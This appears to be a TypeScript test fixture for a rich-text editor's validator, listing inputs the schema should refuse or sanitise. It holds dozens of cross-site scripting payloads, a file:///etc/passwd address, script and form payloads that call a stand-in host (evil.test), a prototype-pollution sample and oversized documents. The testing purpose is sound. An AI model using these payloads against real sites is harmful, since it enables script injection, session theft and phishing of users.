/** Texts and documents that try to become a script, an address or a crash: through editor, import and renderer. */

export const hostileAddresses: readonly string[] = [
  'javascript:alert(1)',
  'JavaScript:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://example.org/%0aalert(1)',
  'javascript:/*https://example.org*/alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://example.org/0197a3f0',
  'file:///etc/passwd',
  'filesystem:https://example.org/x',
  'view-source:https://example.org',
  'about:blank',
  'chrome://settings',
  'ftp://example.org/x',
  'ws://example.org',
  'intent://example.org#Intent;scheme=http;end',
  'https://user:password@example.org/',
  'https://example.org@evil.test/',
  '//evil.test/x',
  '/logout',
  'logout',
  '#top',
  '?c=other',
  '',
  'https://',
  'http://[::1',
  '\u202ehttps://example.org',
]

/** Markup elsewhere, text here. */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.test" ping="https://evil.test">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="https://evil.test"><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>*{background:url(https://evil.test)}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x onload="alert(1)"/>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<isindex action=javascript:alert(1) type=image>',
  '<marquee onstart=alert(1)>',
  '<portal src="https://evil.test">',
  '<dialog open oncancel=alert(1)>',
  '<p is="x-y" onclick=alert(1)>',
  '<select><option onclick=alert(1)>',
]

const paragraph = (content: unknown) => ({ type: 'paragraph', content })
const doc = (...content: unknown[]) => ({ type: 'doc', content })
const text = (words: string, extra: object = {}) => ({ type: 'text', text: words, ...extra })
const file = '0197a3f0-0000-4000-8000-000000000001'

function nested(depth: number): unknown {
  let inner: unknown = paragraph([text('deep')])
  for (let at = 0; at < depth; at++)
    inner = { type: 'bulletList', content: [{ type: 'listItem', content: [inner] }] }
  return inner
}

/** Refused by the schema. */
export const refusedDocuments: Readonly<Record<string, unknown>> = {
  nothing: null,
  'a text': '<p>hello</p>',
  'a number': 7,
  'a list': [],
  'an empty object': {},
  'no content': { type: 'doc' },
  'empty content': doc(),
  'content that is a text': { type: 'doc', content: '<script>' },
  'a block that is a text': doc('<script>alert(1)</script>'),
  'a document in a document': doc(doc(paragraph([]))),
  'an unknown block': doc({ type: 'script', content: [text('alert(1)')] }),
  'raw HTML': doc({ type: 'html', attrs: { html: '<img onerror=alert(1)>' } }),
  'a frame': doc({ type: 'iframe', attrs: { src: 'https://evil.test' } }),
  'a code block': doc({ type: 'codeBlock', content: [text('x')] }),
  'a picture by address': doc({ type: 'image', attrs: { src: 'https://evil.test/x.png' } }),
  'a picture that is an address': doc({ type: 'picture', attrs: { fileId: 'https://evil.test/x', alt: '' } }),
  'a picture that is a path': doc({ type: 'picture', attrs: { fileId: '../../logout', alt: '' } }),
  'a picture without a file': doc({ type: 'picture', attrs: { alt: 'x' } }),
  'a video by address': doc({ type: 'video', attrs: { fileId: 'javascript:alert(1)', title: '' } }),
  'a heading of level 1': doc({ type: 'heading', attrs: { level: 1 } }),
  'a heading whose level is a tag': doc({ type: 'heading', attrs: { level: 'script' } }),
  'a callout of an unknown tone': doc({
    type: 'callout',
    attrs: { tone: 'x" onclick="' },
    content: [paragraph([])],
  }),
  'a list of text': doc({ type: 'bulletList', content: [text('x')] }),
  'an empty list': doc({ type: 'bulletList', content: [] }),
  'a list that starts at a text': doc({
    type: 'orderedList',
    attrs: { start: '1" onclick="x' },
    content: [{ type: 'listItem', content: [paragraph([])] }],
  }),
  'an item outside of a list': doc({ type: 'listItem', content: [paragraph([])] }),
  'a text outside of a block': doc(text('x')),
  'a text that is an object': doc(paragraph([text({ toString: 'x' } as unknown as string)])),
  'an unknown mark': doc(paragraph([text('x', { marks: [{ type: 'textStyle', attrs: { style: 'x' } }] })])),
  'a mark that is a text': doc(paragraph([text('x', { marks: ['bold'] })])),
  'a link without an address': doc(paragraph([text('x', { marks: [{ type: 'link' }] })])),
  'a link that is an object': doc(paragraph([text('x', { marks: [{ type: 'link', attrs: { href: {} } }] })])),
  'too many marks': doc(paragraph([text('x', { marks: Array(50).fill({ type: 'bold' }) })])),
  'a picture inside of a text': doc(paragraph([{ type: 'picture', attrs: { fileId: file } }])),
  'ten thousand levels': doc(nested(10_000)),
  'forty levels': doc(nested(40)),
  'fifty thousand blocks': doc(...Array(50_000).fill(paragraph([]))),
  'a million letters': doc(paragraph([text('x'.repeat(1_000_000))])),
  'a million letters in many texts': doc(
    ...Array(1_000)
      .fill(0)
      .map(() => paragraph([text('x'.repeat(1_000))])),
  ),
  ...Object.fromEntries(
    hostileAddresses.map((href) => [
      `a link to ${JSON.stringify(href)}`,
      doc(paragraph([text('x', { marks: [{ type: 'link', attrs: { href } }] })])),
    ]),
  ),
}

/** Articles once the foreign parts have been dropped. */
export const cleanedDocuments: Readonly<Record<string, unknown>> = {
  'foreign attributes': {
    type: 'doc',
    onload: 'alert(1)',
    content: [
      {
        type: 'paragraph',
        attrs: { style: 'position:fixed', class: 'x', onclick: 'alert(1)' },
        dangerouslySetInnerHTML: { __html: '<script>' },
        content: [
          text('link', {
            marks: [
              {
                type: 'link',
                attrs: { href: 'https://example.org/', target: '_self', onclick: 'alert(1)', rel: 'opener' },
              },
            ],
          }),
        ],
      },
    ],
  },
  'control characters': doc(paragraph([text('a\u0000b\u0007c\u202ed\ud800')])),
  'a text of control characters': doc(paragraph([text('\u0000\u0001')])),
  'a prototype': JSON.parse(
    '{"type":"doc","content":[{"type":"paragraph","__proto__":{"content":[{"type":"text","text":"<script>"}]}}]}',
  ),
  'a picture that brings its own address': doc({
    type: 'picture',
    attrs: { fileId: file, alt: '"><script>', caption: '<b>', src: 'https://evil.test', onerror: 'alert(1)' },
  }),
  ...Object.fromEntries(hostileTexts.map((words) => [words, doc(paragraph([text(words)]))])),
}
